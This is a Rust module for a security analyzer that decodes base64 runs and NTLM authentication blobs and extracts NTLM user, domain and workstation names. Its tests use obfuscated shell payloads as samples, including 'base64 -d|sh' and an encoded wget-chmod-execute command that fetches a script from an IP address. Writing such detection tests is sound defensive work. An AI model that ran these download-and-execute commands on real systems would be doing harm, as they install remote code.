//! The `base64` decoder: decodes the blobs after `Negotiate ` / `NTLM ` (HTTP
//! `Authorization:` / `WWW-Authenticate:` headers and the like) and long runs of
//! base64 anywhere in the input, each into a decoded copy (a virtual attack).
//!
//! Decoding is strict about the alphabet (standard `+/` or URL-safe `-_`, never
//! both in one run) and tolerant about padding (present or not) and trailing bits.
//! A general run is only decoded when it looks like base64 and not like a word, a
//! path or a hex string: at least `min_length` characters with an upper-case
//! letter, a lower-case letter and a digit, decoding to more than one distinct byte
//! value. MIME-style runs broken into lines (each line a multiple of 4 characters)
//! are joined.

use super::decoding::{self, find_ci};
use super::registry::{self, Options, Registration};
use super::{Analyzer, Decoded, Input, Output, Stage};
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine as _;
use serde::{Deserialize, Serialize};

pub const NAME: &str = "base64";

/// `[analyzer.base64]`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Base64Options {
    pub enabled: bool,
    /// Shortest run of base64 characters decoded outside authentication headers.
    pub min_length: usize,
    /// Most blobs decoded from one input.
    pub max_blobs: usize,
}

impl Default for Base64Options {
    fn default() -> Self {
        Base64Options {
            enabled: true,
            min_length: 64,
            max_blobs: 8,
        }
    }
}

impl Options for Base64Options {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

fn check(o: &Base64Options) -> Result<(), (String, String)> {
    decoding::in_range("min_length", o.min_length as u64, 16, 1 << 20)?;
    decoding::in_range("max_blobs", o.max_blobs as u64, 1, 16)
}

pub fn registration() -> Registration {
    Registration {
        name: NAME,
        stage: Stage::Decode,
        about: "decodes Negotiate/NTLM authentication blobs and long base64 runs",
        options: |t| decoding::checked(t, check),
        build: |t, c| {
            let limit = c.limits.read_limit;
            registry::build_with(t, |o: Base64Options| Ok(Base64 { o, limit }))
        },
    }
}

/// The decoder.
pub struct Base64 {
    o: Base64Options,
    limit: u64,
}

impl Base64 {
    pub fn new(o: Base64Options, read_limit: u64) -> Base64 {
        Base64 {
            o,
            limit: read_limit,
        }
    }
}

/// Authentication schemes whose token is base64.
const SCHEMES: [&[u8]; 2] = [b"Negotiate ", b"NTLM "];

impl Analyzer for Base64 {
    fn name(&self) -> &'static str {
        NAME
    }
    fn stage(&self) -> Stage {
        Stage::Decode
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        // Decoded base64 is 3/4 of its text: bounded by the input already.
        let mut budget = decoding::output_cap(input.data.len(), 1, self.limit);
        for blob in self.blobs(input.data) {
            let n = blob.data.len().min(budget);
            if n == 0 {
                break;
            }
            budget -= n;
            let f = out.finding(NAME, "base64", blob.describe());
            f.at(blob.start as u64, (blob.end - blob.start) as u64)
                .meta("context", blob.context)
                .meta("alphabet", blob.alphabet)
                .meta("decoded_bytes", n as u64);
            if let Some(t) = ntlmssp_type(&blob.data) {
                f.meta("ntlmssp_type", t);
            }
            for (key, value) in ntlm_names(&blob.data) {
                f.meta(key, value);
            }
            let mut data = blob.data;
            data.truncate(n);
            out.decoded.push(Decoded {
                offset: blob.start as u64,
                length: (blob.end - blob.start) as u64,
                data,
            });
        }
        Ok(())
    }
}

/// One decoded blob.
#[derive(Debug)]
struct Blob {
    /// Where its text starts and ends (padding included) in the input.
    start: usize,
    end: usize,
    /// `Negotiate`, `NTLM` or `run`.
    context: &'static str,
    alphabet: &'static str,
    data: Vec<u8>,
}

impl Blob {
    fn describe(&self) -> String {
        let what = match self.context {
            "run" => "base64 run".to_string(),
            scheme => format!("{scheme} authentication blob"),
        };
        let ntlm = match ntlmssp_type(&self.data) {
            Some(t) => format!(" (NTLMSSP {})", ntlmssp_name(t)),
            None => String::new(),
        };
        format!(
            "{what} of {} characters decoded to {} bytes{ntlm}",
            self.end - self.start,
            self.data.len()
        )
    }
}

impl Base64 {
    /// The blobs of `data`: authentication tokens first, then long runs elsewhere.
    fn blobs(&self, data: &[u8]) -> Vec<Blob> {
        let mut found: Vec<Blob> = Vec::new();
        for scheme in SCHEMES {
            let mut from = 0;
            while let Some(p) = find_ci(data, scheme, from) {
                from = p + scheme.len();
                let start = skip_spaces(data, from);
                let run = scan(data, start, false);
                if found.len() >= self.o.max_blobs {
                    return found;
                }
                if let Some((alphabet, bytes)) = decode(&run.text) {
                    let context = std::str::from_utf8(&scheme[..scheme.len() - 1]).unwrap();
                    found.push(Blob {
                        start,
                        end: run.end,
                        context,
                        alphabet,
                        data: bytes,
                    });
                }
                from = from.max(run.end);
            }
        }
        let mut i = 0;
        while i < data.len() && found.len() < self.o.max_blobs {
            if !is_b64(data[i]) || (i > 0 && is_b64(data[i - 1])) {
                i += 1;
                continue;
            }
            let run = scan(data, i, true);
            let covered = found.iter().any(|b| b.start < run.end && i < b.end);
            if !covered && run.text.len() >= self.o.min_length && looks_like_base64(&run.text) {
                if let Some((alphabet, bytes)) = decode(&run.text) {
                    if bytes.iter().any(|&b| b != bytes[0]) {
                        found.push(Blob {
                            start: i,
                            end: run.end,
                            context: "run",
                            alphabet,
                            data: bytes,
                        });
                    }
                }
            }
            i = run.end.max(i + 1);
        }
        found
    }
}

fn is_b64(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')
}

fn skip_spaces(data: &[u8], mut i: usize) -> usize {
    while i < data.len() && data[i] == b' ' {
        i += 1;
    }
    i
}

/// A run of base64 text: its characters (line breaks removed) and where it ends.
struct Run {
    text: Vec<u8>,
    end: usize,
}

/// The run starting at `start`: base64 characters, then up to two `=`. With
/// `lines`, a line break after a line of 4n characters continues the run.
fn scan(data: &[u8], start: usize, lines: bool) -> Run {
    let mut text = Vec::new();
    let mut i = start;
    loop {
        let line = i;
        while i < data.len() && is_b64(data[i]) {
            i += 1;
        }
        text.extend_from_slice(&data[line..i]);
        let mut pad = 0;
        while i < data.len() && data[i] == b'=' && pad < 2 {
            i += 1;
            pad += 1;
        }
        text.extend(std::iter::repeat_n(b'=', pad));
        if !lines || pad > 0 || i == line || (i - line) % 4 != 0 {
            break;
        }
        let next = match data.get(i..) {
            Some([b'\r', b'\n', c, ..]) if is_b64(*c) => i + 2,
            Some([b'\n', c, ..]) if is_b64(*c) => i + 1,
            _ => break,
        };
        i = next;
    }
    Run { text, end: i }
}

/// A general run must look like base64: upper, lower case and digits all present.
fn looks_like_base64(text: &[u8]) -> bool {
    text.iter().any(u8::is_ascii_uppercase)
        && text.iter().any(u8::is_ascii_lowercase)
        && text.iter().any(u8::is_ascii_digit)
}

fn engine() -> GeneralPurpose {
    GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::RequireNone)
            .with_decode_allow_trailing_bits(true),
    )
}

/// Decode one run (padding optional, either alphabet); None when it is not valid
/// base64 or decodes to nothing. A run of 4n+1 characters loses its last one
/// (no valid base64 has that length).
fn decode(text: &[u8]) -> Option<(&'static str, Vec<u8>)> {
    let body: Vec<u8> = text.iter().copied().filter(|&c| c != b'=').collect();
    let standard = body.iter().any(|&c| c == b'+' || c == b'/');
    let url = body.iter().any(|&c| c == b'-' || c == b'_');
    if standard && url {
        return None;
    }
    let mut body: Vec<u8> = body
        .into_iter()
        .map(|c| match c {
            b'-' => b'+',
            b'_' => b'/',
            c => c,
        })
        .collect();
    if body.len() % 4 == 1 {
        body.pop();
    }
    let bytes = engine().decode(&body).ok()?;
    if bytes.is_empty() {
        return None;
    }
    Some((if url { "url_safe" } else { "standard" }, bytes))
}

/// The NTLMSSP message type of a decoded blob, if it is one.
fn ntlmssp_type(data: &[u8]) -> Option<u32> {
    let rest = data.strip_prefix(b"NTLMSSP\0")?;
    Some(u32::from_le_bytes(rest.get(..4)?.try_into().ok()?))
}

/// Domain, user and workstation of an NTLMSSP Authenticate message (type 3):
/// security buffers at 28, 36 and 44; UTF-16LE when the Unicode flag is set.
fn ntlm_names(data: &[u8]) -> Vec<(&'static str, String)> {
    if ntlmssp_type(data) != Some(3) {
        return Vec::new();
    }
    let u16_at = |i: usize| data.get(i..i + 2).map(|b| u16::from_le_bytes([b[0], b[1]]));
    let u32_at = |i: usize| {
        data.get(i..i + 4)
            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    };
    let unicode = u32_at(60).is_some_and(|flags| flags & 1 == 1);
    let mut out = Vec::new();
    for (key, at) in [
        ("ntlm_domain", 28),
        ("ntlm_user", 36),
        ("ntlm_workstation", 44),
    ] {
        let (Some(len), Some(off)) = (u16_at(at), u32_at(at + 4)) else {
            continue;
        };
        let Some(raw) = data.get(off as usize..off as usize + len as usize) else {
            continue;
        };
        let text = if unicode {
            let units: Vec<u16> = raw
                .chunks_exact(2)
                .map(|c| u16::from_le_bytes([c[0], c[1]]))
                .collect();
            String::from_utf16_lossy(&units)
        } else {
            String::from_utf8_lossy(raw).into_owned()
        };
        if !text.is_empty() {
            out.push((key, text.chars().take(200).collect()));
        }
    }
    out
}

fn ntlmssp_name(t: u32) -> String {
    match t {
        1 => "Negotiate".into(),
        2 => "Challenge".into(),
        3 => "Authenticate".into(),
        t => format!("type {t}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blobs(data: &[u8]) -> Vec<Blob> {
        Base64::new(Base64Options::default(), 1 << 20).blobs(data)
    }

    /// A real NTLM Negotiate message (type 1), as curl --ntlm sends it.
    const NEGOTIATE: &str = "TlRMTVNTUAABAAAABoIIAAAAAAAAAAAAAAAAAAAAAAA=";

    #[test]
    fn ntlm_negotiate_blob_in_http() {
        let req =
            format!("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Negotiate {NEGOTIATE}\r\n\r\n");
        let b = blobs(req.as_bytes());
        assert_eq!(b.len(), 1);
        assert_eq!(b[0].context, "Negotiate");
        assert_eq!(&req[b[0].start..b[0].end], NEGOTIATE);
        assert_eq!(&b[0].data[..8], b"NTLMSSP\0");
        assert_eq!(ntlmssp_type(&b[0].data), Some(1));
        assert_eq!(b[0].data.len(), 32);
        assert!(
            b[0].describe().contains("NTLMSSP Negotiate"),
            "{}",
            b[0].describe()
        );
        // NTLM scheme, no padding: the same bytes.
        let req = "Authorization: NTLM TlRMTVNTUAABAAAABoIIAAAAAAAAAAAAAAAAAAAAAAA\r\n";
        let b = blobs(req.as_bytes());
        assert_eq!(b.len(), 1);
        assert_eq!(b[0].context, "NTLM");
        assert_eq!(b[0].data.len(), 32);
    }

    #[test]
    fn ntlm_authenticate_names() {
        // Type 3 with Unicode names: domain, user, workstation after the header.
        let names: Vec<Vec<u8>> = ["CORP", "admin", "WS01"]
            .iter()
            .map(|s| s.encode_utf16().flat_map(u16::to_le_bytes).collect())
            .collect();
        let mut m = b"NTLMSSP\0".to_vec();
        m.extend(3u32.to_le_bytes());
        m.resize(64, 0);
        m[60] = 1; // NEGOTIATE_UNICODE
        let mut off = 64u32;
        for (i, n) in names.iter().enumerate() {
            let at = 28 + 8 * i;
            m[at..at + 2].copy_from_slice(&(n.len() as u16).to_le_bytes());
            m[at + 2..at + 4].copy_from_slice(&(n.len() as u16).to_le_bytes());
            m[at + 4..at + 8].copy_from_slice(&off.to_le_bytes());
            off += n.len() as u32;
        }
        for n in &names {
            m.extend(n);
        }
        let text = base64::engine::general_purpose::STANDARD.encode(&m);
        let a = Base64::new(Base64Options::default(), 1 << 20);
        let out = decoding::run_on(&a, format!("Authorization: NTLM {text}\r\n").as_bytes());
        let f = &out.findings[0];
        assert_eq!(f.meta["ntlmssp_type"], 3);
        assert_eq!(f.meta["ntlm_domain"], "CORP");
        assert_eq!(f.meta["ntlm_user"], "admin");
        assert_eq!(f.meta["ntlm_workstation"], "WS01");
        assert!(f.detail.contains("NTLMSSP Authenticate"), "{}", f.detail);
    }

    #[test]
    fn long_runs_both_alphabets_with_and_without_padding() {
        let plain: Vec<u8> = (0u8..=200).collect();
        let std_text = base64::engine::general_purpose::STANDARD.encode(&plain);
        let url_text = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&plain);
        assert!(std_text.contains('+') || std_text.contains('/'));
        assert!(url_text.contains('-') || url_text.contains('_'));
        for text in [&std_text, &url_text] {
            let payload = format!("echo {text}|base64 -d|sh\n");
            let b = blobs(payload.as_bytes());
            assert_eq!(b.len(), 1, "{text}");
            assert_eq!(b[0].data, plain);
            assert_eq!(b[0].start, 5);
            assert_eq!(&payload[b[0].start..b[0].end], text.as_str());
        }
        // Correct decoding of a shell command (the original's decoder mangled tails).
        let cmd = b"cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; rm x.sh";
        let text = base64::engine::general_purpose::STANDARD.encode(cmd);
        let b = blobs(format!("bash -c {{echo,{text}}}").as_bytes());
        assert_eq!(b.len(), 1);
        assert_eq!(b[0].data, cmd);
    }

    #[test]
    fn mime_lines_are_joined() {
        let plain: Vec<u8> = (0..300u32).map(|i| (i * 7 % 251) as u8).collect();
        let text = base64::engine::general_purpose::STANDARD.encode(&plain);
        let wrapped: Vec<&str> = text
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let b = blobs(wrapped.join("\r\n").as_bytes());
        assert_eq!(b.len(), 1);
        assert_eq!(b[0].data, plain);
    }

    #[test]
    fn skips_what_is_not_base64() {
        let hex = "a3f5".repeat(20);
        let word = "Abstract".repeat(10);
        let same = "AAAA".repeat(20) + "1";
        let path = "/usr/lib/x86_64-linux-gnu/Qt5Core/plugins/platforms/libqxcb_2024.so";
        let short = "aGVsbG8gd29ybGQ=";
        for s in [hex.as_str(), word.as_str(), same.as_str(), path, short] {
            assert!(blobs(s.as_bytes()).is_empty(), "{s}");
        }
        assert!(decode(b"QUJD+-_/").is_none(), "mixed alphabets");
    }

    #[test]
    fn the_decoder_makes_copies_and_findings() {
        let a = Base64::new(Base64Options::default(), 1 << 20);
        let data = format!("Authorization: Negotiate {NEGOTIATE}\r\n");
        let out = decoding::run_on(&a, data.as_bytes());
        assert_eq!(out.decoded.len(), 1);
        assert_eq!(out.decoded[0].offset, 25);
        assert_eq!(out.decoded[0].length, NEGOTIATE.len() as u64);
        assert_eq!(out.findings[0].kind, "base64");
        assert_eq!(out.findings[0].meta["ntlmssp_type"], 1);
    }
}
